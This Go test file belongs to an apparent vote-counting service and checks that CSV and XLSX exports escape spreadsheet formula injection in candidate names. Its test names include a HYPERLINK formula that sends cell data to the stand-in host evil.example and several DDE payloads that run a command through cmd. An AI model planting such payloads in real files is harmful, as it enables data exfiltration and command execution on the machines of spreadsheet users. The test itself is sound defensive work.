package api_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/kiemphieu/kiemphieu/internal/proof"
)

// TestExportCSVFormulaCells is finding 11 of the security review: candidate
// names that a spreadsheet would run as formulas (an exfiltration link, a
// DDE command) are written to export.csv as text, with a leading ' (DESIGN
// §7.1); the counts beside them stay figures, and the XLSX keeps the names
// exactly as entered (its cells are strings, never formulas).
func TestExportCSVFormulaCells(t *testing.T) {
	names := []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`, // the report's first name
		`+cmd|' /C calc'!A0`, // the report's second name
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`Nguyễn Văn An`,
		`An =1+1`, // = not first: not a formula
	}
	cands := make([]any, len(names))
	for i, n := range names {
		cands[i] = map[string]any{"id": "c" + string(rune('1'+i)), "name": n}
	}
	h := newHarness(t)
	h.openContest(with(contestDef("fx"), "candidates", cands, "seats", 5))
	h.castStrike("fx", strikes("a", 3, "c1")...)

	r := h.do("GET", "/contests/fx/export.csv", nil, asAdmin)
	mustStatus(t, r, http.StatusOK)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(names)+1 {
		t.Fatalf("%d rows, want %d: %q", len(rows), len(names)+1, rows)
	}
	// The ballot order is computed (Vietnamese alphabetical): find each
	// name by its id.
	byID := map[string]string{}
	for i, n := range names {
		byID["c"+string(rune('1'+i))] = n
	}
	escaped := 0
	for i, row := range rows[1:] {
		name := byID[row[1]]
		want := name
		if name[0] == '=' || name[0] == '+' || name[0] == '-' || name[0] == '@' {
			want = "'" + name
			escaped++
		}
		if row[2] != want {
			t.Errorf("row %d (%s) name cell %q, want %q", i+1, row[1], row[2], want)
		}
		// TT and the votes are figures: never prefixed.
		if row[0] != string(rune('1'+i)) || (row[3] != "3" && row[3] != "0") {
			t.Errorf("row %d figures %q", i+1, row)
		}
	}

	proof.Report(t, "formula_cells_escaped", escaped, "of 4 names")

	r = h.do("GET", "/contests/fx/export.xlsx", nil, asAdmin)
	mustStatus(t, r, http.StatusOK)
	f, err := excelize.OpenReader(bytes.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i := range names {
		cell, _ := excelize.CoordinatesToCellName(3, i+2)
		id, _ := f.GetCellValue("Kết quả", "B"+cell[1:])
		if got, name := f.GetCellValue("Kết quả", cell); got != byID[id] || name != nil {
			t.Errorf("XLSX %s = %q, want %q", cell, got, byID[id])
		}
		if formula, _ := f.GetCellFormula("Kết quả", cell); formula != "" {
			t.Errorf("XLSX %s holds a formula %q", cell, formula)
		}
	}
}
